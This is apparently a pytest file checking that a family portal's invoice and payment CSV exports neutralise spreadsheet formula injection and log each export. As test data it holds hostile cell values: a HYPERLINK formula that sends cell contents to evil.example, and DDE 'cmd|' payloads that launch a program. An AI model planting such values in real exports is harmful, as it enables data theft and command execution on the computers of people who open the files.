"""Every CSV export opens in a spreadsheet as data: a hostile name is text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import Session, col, select

from portail_famille.models import (
    AuditEntry,
    Family,
    Guardian,
    Invoice,
    Payment,
    PaymentAllocation,
)
from portail_famille.services.accounting_export import invoices_csv, payments_csv
from portail_famille.services.csv_cells import safe_cell
from portail_famille.services.demo import ADMIN_EMAIL
from tests.payment_fixtures import record_sample_payments
from tests.unit.services.records_admin_fixtures import user_id

pytestmark = pytest.mark.db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _tremblay(session: Session) -> tuple[Family, Guardian]:
    family = session.exec(select(Family).where(Family.name == "Famille Tremblay")).one()
    marie = session.exec(
        select(Guardian).where(Guardian.first_name == "Marie", Guardian.family_id == family.id)
    ).one()
    return family, marie


def test_a_hostile_family_name_is_text_in_the_invoice_export(session: Session) -> None:
    family, marie = _tremblay(session)
    family.name = HOSTILE
    marie.last_name = "@SUM(A1:A9)"
    invoice = session.exec(select(Invoice).where(Invoice.family_id == family.id)).first()
    assert invoice is not None
    invoice.label = "+cmd|' /C calc'!A0"
    session.flush()
    cells = _cells(invoices_csv(session, user_id=user_id(session, ADMIN_EMAIL), language="fr"))
    assert "'" + HOSTILE in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert "Marie '@SUM(A1:A9)" not in cells  # the name does not start with the formula
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_a_hostile_payment_note_and_payer_are_text_in_the_payment_export(
    session: Session,
) -> None:
    record_sample_payments(session)
    payment = session.exec(
        select(Payment).join(PaymentAllocation, col(PaymentAllocation.payment_id) == Payment.id)
    ).first()
    assert payment is not None
    payment.note = "-2+3+cmd|' /C calc'!A0"
    payer = session.get(Guardian, payment.payer_guardian_id)
    assert payer is not None
    payer.first_name = "=1+1"
    session.flush()
    cells = _cells(payments_csv(session, user_id=user_id(session, ADMIN_EMAIL), language="fr"))
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'=1+1 ") for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-12.50", "-12.50"),  # a credit balance stays a number
        ("-", "'-"),
        ("-1+1", "'-1+1"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Léa Gagnon", "Léa Gagnon"),
        (None, ""),
        (42, "42"),
    ],
)
def test_safe_cell(value: object, shown: str) -> None:
    assert safe_cell(value) == shown


def test_each_accounting_export_is_logged_as_an_export(session: Session) -> None:
    admin = user_id(session, ADMIN_EMAIL)
    invoices_csv(session, user_id=admin, language="fr")
    payments_csv(session, user_id=admin, language="en")
    session.flush()
    logged = session.exec(
        select(AuditEntry).where(AuditEntry.actor_user_id == admin).order_by(col(AuditEntry.id))
    ).all()[-2:]
    assert [(e.action, e.detail) for e in logged] == [
        ("finances.exported", {"export": "invoices"}),
        ("finances.exported", {"export": "payments"}),
    ]
